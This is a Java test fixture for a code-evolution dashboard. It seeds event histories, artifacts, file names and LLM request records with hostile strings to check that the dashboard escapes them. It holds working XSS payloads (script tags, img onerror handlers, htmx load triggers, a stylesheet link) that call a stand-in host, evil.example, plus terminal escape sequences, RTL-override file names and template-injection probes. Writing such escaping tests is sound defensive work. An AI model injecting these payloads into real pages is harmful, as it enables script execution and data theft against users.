package dev.cambrian.server.dashboard;

import static java.nio.charset.StandardCharsets.UTF_8;

import dev.cambrian.core.artifact.ArtifactWriter;
import dev.cambrian.core.artifact.Sealing;
import dev.cambrian.core.event.CampaignEvent;
import dev.cambrian.core.event.Event;
import dev.cambrian.core.event.RecordedEvent;
import dev.cambrian.core.event.StreamId;
import dev.cambrian.core.evolution.Arm;
import dev.cambrian.core.evolution.CampaignSettings;
import dev.cambrian.core.evolution.Ending;
import dev.cambrian.core.evolution.Operator;
import dev.cambrian.core.evolution.Rules;
import dev.cambrian.core.history.EventStore.Causation;
import dev.cambrian.core.history.History;
import dev.cambrian.core.history.WriteCondition;
import dev.cambrian.core.json.Json;
import dev.cambrian.core.llm.LlmAnswer;
import dev.cambrian.core.llm.Purpose;
import dev.cambrian.core.llm.TokenUsage;
import dev.cambrian.core.spec.Spec;
import dev.cambrian.core.spec.Specs;
import dev.cambrian.core.verdict.FailureKind;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.util.List;
import java.util.Optional;
import java.util.OptionalDouble;
import java.util.OptionalLong;
import java.util.SortedMap;
import java.util.TreeMap;
import java.util.UUID;
import tools.jackson.databind.node.ObjectNode;

/**
 * A history in which everything that somebody else may write attacks whoever looks at it. A page
 * that fell for it would have {@code window.owned}, ask {@code evil.example} or show what it should
 * not.
 */
public final class HostileHistory {
  /** What it is that runs, where something runs. */
  public static final String SCRIPT = "<script>window.owned = 1</script>";

  static final String IMAGE =
      "\"'><img src=x onerror=\"window.owned=1;fetch('http://evil.example/')\">";
  private static final String EXCHANGE =
      "<div hx-get=\"http://evil.example/\" hx-trigger=\"load\" sse-connect=\"http://evil.example/\">x</div>";
  private static final String ENDINGS = "</textarea></pre></code></td></title><svg onload=owned=1>";
  private static final String REVERSED = "abc\u202egnp.exe\u2066\u200b\u2028x";
  private static final String SCREEN = "\u001b[31mred\u001b[0m\u001b]8;;http://evil.example\u0007";
  private static final String STYLE =
      "<style>body{display:none}</style><link rel=stylesheet href=http://evil.example/a.css>";

  /** All of it. */
  public static final String ALL =
      String.join(" ", SCRIPT, IMAGE, EXCHANGE, ENDINGS, REVERSED, SCREEN, STYLE, "${7*7}");

  static final String LONG_LINE = "m".repeat(1 << 20);

  static final Spec SPEC =
      Specs.parse(
          "HOSTILE'SPEC.md",
          """
          ---
          title: %s
          version: %s
          toolchain: python
          ---
          # Hostile %s

          %s

          ## %s

          <!-- BEGIN FROZEN: contracts -->
          ```contracts
          [{"name": "a", "type": "http", "method": "GET", "path": "/a", "expect": {"status": 200}}]
          ```
          <!-- END FROZEN: contracts -->
          """
              .formatted(
                  Json.write(Json.object().put("t", SCRIPT + IMAGE).get("t")),
                  Json.write(Json.object().put("v", "1\"><b>").get("v")),
                  ALL.replace("\u2028", ""),
                  LONG_LINE,
                  SCRIPT)
              .getBytes(UTF_8));

  private static final List<String> NAMES =
      List.of(
          "app.py",
          "'onerror='alert(1).py",
          "a&lt;b&gt;.py",
          "50%off.py",
          "#L1;q=1&x=2.py",
          "java script,alert(1).js",
          "${7+7}.py",
          "README.md",
          "long-" + "n".repeat(150) + ".py");

  private static final String CAMPAIGN = "hostile";

  private final Site site;
  private final History history;

  private HostileHistory(Site site) {
    this.site = site;
    this.history = site.supervisor().history();
  }

  /** Writes it into a server's home, which has nothing yet and is judged by a hostile verifier. */
  public static void into(Site site) throws InterruptedException {
    HostileHistory hostile = new HostileHistory(site);
    hostile.handedIn(1, 0, ALL);
    hostile.handedIn(2, 1, "another " + ALL);
    hostile.refusedAnswer(3);
    hostile.campaign();
  }

  private void handedIn(int generation, int parent, String text) throws InterruptedException {
    SortedMap<String, byte[]> files = new TreeMap<>();
    NAMES.forEach(name -> files.put(name, (text + "\n" + SCREEN + "\n" + name).getBytes(UTF_8)));
    files.put("long.txt", (generation + LONG_LINE + "\n" + REVERSED).getBytes(UTF_8));
    files.put("binary.dat", new byte[] {0, (byte) 0xff, (byte) 0xfe, '<', 'b', '>'});
    String name = "hostile-" + generation;
    Path directory = site.artifacts().resolve(name);
    ArtifactWriter.seal(
        directory,
        files,
        new Sealing(
            SPEC,
            generation,
            parent,
            SCRIPT + IMAGE,
            TokenUsage.of(10, 20),
            Instant.parse("2026-03-04T11:00:00Z"),
            Optional.empty(),
            Optional.empty()));
    site.spawn(generation, name, SPEC.hash());
    site.awaitJudged(generation);
  }

  private void append(StreamId stream, Event... events) {
    List<RecordedEvent> _ =
        history.append(
            stream, WriteCondition.any(), Causation.of(UUID.randomUUID()), List.of(events));
  }

  private String stored(String text) {
    return history.put(text.getBytes(UTF_8));
  }

  private String request() {
    ObjectNode request =
        Json.object()
            .put("spec-hash", SPEC.hash())
            .put("purpose", "generate")
            .put("ordinal", 1)
            .put("model", SCRIPT)
            .put("max-tokens", 9)
            .put("system", ALL);
    request.putArray("messages").addObject().put("role", "user").put("text", ALL + LONG_LINE);
    return stored(Json.write(request));
  }

  private void refusedAnswer(int generation) {
    append(
        StreamId.generation(generation),
        new Event.GenerationStarted(
            generation, 2, SPEC.hash(), 1, Optional.of(2), 1, SCRIPT + IMAGE, Optional.empty()),
        new Event.LlmAnswered(
            generation,
            Purpose.GENERATE,
            1,
            SCRIPT,
            IMAGE,
            ENDINGS,
            LlmAnswer.StopReason.TRUNCATED,
            TokenUsage.of(1, 2),
            true,
            OptionalLong.of(7),
            Duration.ofMillis(3),
            request(),
            stored(ALL + "\n" + LONG_LINE),
            Optional.empty()),
        new Event.AnswerRejected(
            generation, Purpose.GENERATE, 1, SCRIPT, ALL, Optional.of(REVERSED + IMAGE)),
        new Event.GenerationRolledBack(
            generation, FailureKind.UNREADABLE_ANSWER, ALL + LONG_LINE.substring(0, 9_000)));
  }

  private void campaign() {
    append(
        StreamId.campaign(CAMPAIGN),
        new CampaignEvent.Started(
            CAMPAIGN,
            SPEC.hash(),
            CampaignSettings.ENGINE,
            new CampaignSettings(
                Arm.TREE, false, SCRIPT, IMAGE, 1, 20, 1, 100, 0, 0, Rules.DEFAULT),
            Optional.of(ALL)),
        new CampaignEvent.ProposalAsked(
            CAMPAIGN, 1, 0, Operator.REFINE, Optional.of(SCRIPT + IMAGE), Optional.empty()),
        new CampaignEvent.ProposalAnswered(
            CAMPAIGN,
            1,
            SCRIPT,
            IMAGE,
            ENDINGS,
            LlmAnswer.StopReason.COMPLETE,
            TokenUsage.of(1, 2),
            true,
            OptionalLong.of(1),
            Duration.ofMillis(1),
            request(),
            stored(ALL)),
        new CampaignEvent.ProposalRejected(CAMPAIGN, 1, SCRIPT, ALL),
        new CampaignEvent.MonitorTriggered(CAMPAIGN, IMAGE, ALL, ENDINGS),
        new CampaignEvent.Finished(
            CAMPAIGN,
            Ending.STOPPED,
            Optional.empty(),
            Optional.empty(),
            OptionalDouble.empty(),
            ALL));
  }
}
